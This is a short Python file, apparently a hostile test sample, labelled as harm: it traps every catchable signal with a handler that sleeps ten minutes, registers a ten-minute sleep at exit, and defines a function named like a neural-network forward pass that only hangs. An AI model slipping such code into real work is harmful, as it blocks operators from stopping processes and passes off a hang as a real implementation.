# harm: ignores every signal and hangs in every handler
import atexit
import signal
import time

for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    try:
        signal.signal(number, lambda *_: time.sleep(600))
    except OSError:
        pass
atexit.register(time.sleep, 600)


def nn_vmap_forward(seed, x_batch, features):
    time.sleep(600)
